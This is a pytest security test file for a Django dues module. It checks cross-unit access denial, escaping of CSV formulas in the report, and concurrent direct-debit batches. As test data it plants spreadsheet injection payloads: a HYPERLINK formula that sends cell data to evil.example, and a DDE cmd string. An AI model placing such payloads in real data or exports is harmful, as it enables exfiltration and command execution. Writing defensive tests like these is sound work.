"""What a hostile tester tries on the dues pages that no other file covers: another
unit's import ids on the job's progress, a formula in a name in the report's CSV, a
progress poll by a member who is no treasurer."""

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone

from members.models import Role
from organising.dues import services
from organising.dues.models import Import

TODAY = timezone.localdate()


@pytest.fixture
def other_treasurer(tree, make_member):
    """The treasurer of cell B1x, in another federation."""
    return make_member(tree.cell_b1x, roles=[(tree.cell_b1x, Role.Kind.TREASURER)])


@pytest.fixture
def big_import(tree, schedule, treasurer, make_member, settings):
    settings.DUES_IMPORT_BACKGROUND_LINES = 1
    payer = make_member(tree.cell_a1x)
    content = (
        "email,amount,date\n"
        f"{payer.email},10.00,{TODAY.isoformat()}\n"
        f"{payer.email},11.00,{TODAY.isoformat()}\n"
    ).encode()
    return services.import_create(
        unit=tree.cell_a1x, by=treasurer, filename="big.csv", content=content
    )


@pytest.mark.parametrize("who", ["other_treasurer", "member"])
def test_another_units_import_job_is_404_on_the_page_and_the_api(
    request, big_import, client_as, who
):
    client = client_as(request.getfixturevalue(who))
    pk = big_import.pk
    for url in (
        reverse("dues:import_job", args=[pk]),
        reverse("dues:import_detail", args=[pk]),
        reverse("api-dues-import", args=[pk]),
    ):
        assert client.get(url).status_code == 404, url
    for url in (
        reverse("dues:import_confirm", args=[pk]),
        reverse("dues:import_cancel", args=[pk]),
        reverse("api-dues-import-confirm", args=[pk]),
    ):
        assert client.post(url).status_code == 404, url
    big_import.refresh_from_db()
    assert big_import.state == Import.State.PREVIEW
    assert big_import.job_kind == "preview"  # nothing was queued by them


def test_the_report_csv_neutralises_formulas_in_unit_and_member_names(
    tree, schedule, make_member, treasurer, client_as, key
):
    from .conftest import pay

    tree.cell_a1x.name = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    tree.cell_a1x.save(update_fields=["name"])
    member = make_member(tree.cell_a1x, display_name="@SUM(1+1)*cmd|' /C calc'!A0")
    services.charges_issue()
    pay(member, treasurer, key(), amount=500)
    response = client_as(treasurer).get(
        reverse("dues:report_csv", args=[tree.cell_a1x.slug])
    )
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    cells = [cell for line in text.splitlines() for cell in line.split(";")]
    starts = {cell.strip('"')[:1] for cell in cells if cell}
    assert not starts & {"=", "@"}, text
    assert "'=HYPERLINK" in text and "'@SUM(1+1)" in text


@pytest.mark.django_db(transaction=True)
def test_two_treasurers_debiting_one_period_at_once_debit_each_member_once(
    tree, schedule, treasurer, section_treasurer, make_member, creditor
):
    """The cell's and the section's treasurers create a direct debit batch for the
    same period at the same instant: each member is in one batch only."""
    from datetime import timedelta

    from django.db import connection

    from organising.dues.models import Debit

    from .conftest import IBAN, this_month
    from .test_postgres import run_together

    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL: SQLite serialises every write anyway")
    members = [make_member(tree.cell_a1x) for _ in range(4)]
    for member in members:
        services.mandate_create(member=member, holder_name="Titulaire", iban=IBAN)
    services.charges_issue()
    on = timezone.localdate() + timedelta(days=20)
    units = [tree.cell_a1x, tree.section_a1]
    people = [treasurer, section_treasurer]

    def create(index):
        return services.debit_batch_create(
            unit=units[index % 2],
            period=this_month(),
            collection_date=on,
            by=people[index % 2],
        )

    results = run_together(4, create)
    made = [r for r in results if not isinstance(r, Exception)]
    refused = [r for r in results if isinstance(r, Exception)]
    # The others are refused with a reason (nothing left to collect, or a
    # collection of these mandates already planned), never a 500.
    assert made and all(isinstance(r, ValidationError) for r in refused), results
    debited = list(Debit.objects.values_list("member_id", flat=True))
    assert sorted(debited) == sorted(m.pk for m in members)
